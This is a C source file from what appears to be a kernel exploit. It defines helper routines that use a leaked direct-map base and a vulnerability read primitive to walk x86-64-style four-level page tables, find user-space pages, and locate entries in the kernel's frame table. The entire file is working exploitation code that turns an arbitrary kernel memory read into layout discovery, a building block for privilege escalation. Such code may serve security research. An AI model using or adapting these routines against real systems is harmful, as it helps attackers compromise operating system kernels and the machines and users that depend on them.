/* What an attacker finds out by reading page tables, and the frame table, through the direct map.
 */
#include "attack.h"

enum { LEVELS = 4, ENTRIES = 512, FRAME_BYTES = 8 };
#define PRESENT_USER 5ul
#define LARGE 0x80ul

uint64_t attack_entry(const struct bw_leak *leak, uint64_t root, uint64_t address, uint64_t *place)
{
	uint64_t table = root, entry = 0;

	for (int level = LEVELS; level > 0; level--) {
		uint64_t index = address >> (12 + 9 * (level - 1)) & (ENTRIES - 1);

		*place = leak->direct_map_base + table * BW_PAGE_SIZE + index * sizeof(entry);
		entry = (uint64_t)bw_vuln_read(*place);
		if (!(entry & 1) || (level > 1 && entry & LARGE)) {
			return 0;
		}
		table = attack_entry_frame(entry);
	}
	return entry;
}

/* The first entry below the table that leads to a page of user space; 0: none does. */
static uint64_t first_page_below(const struct bw_leak *leak, uint64_t table, int level)
{
	uint64_t first = leak->direct_map_base + table * BW_PAGE_SIZE, found = 0;
	uint64_t nr = level == LEVELS ? ENTRIES / 2 : ENTRIES;

	for (uint64_t i = 0; i < nr && found == 0; i++) {
		uint64_t entry = (uint64_t)bw_vuln_read(first + i * sizeof(entry));

		if ((entry & PRESENT_USER) != PRESENT_USER || (level > 1 && entry & LARGE)) {
			continue;
		}
		found = level == 1 ? entry
				   : first_page_below(leak, attack_entry_frame(entry), level - 1);
	}
	return found;
}

uint64_t attack_first_page(const struct bw_leak *leak, uint64_t root)
{
	return first_page_below(leak, root, LEVELS);
}

uint64_t attack_frame_link(const struct bw_leak *leak, uint64_t address)
{
	uint64_t place;
	uint64_t entry = attack_entry(leak, leak->kernel_root, address, &place);

	return leak->frame_links + attack_entry_frame(entry) * FRAME_BYTES;
}
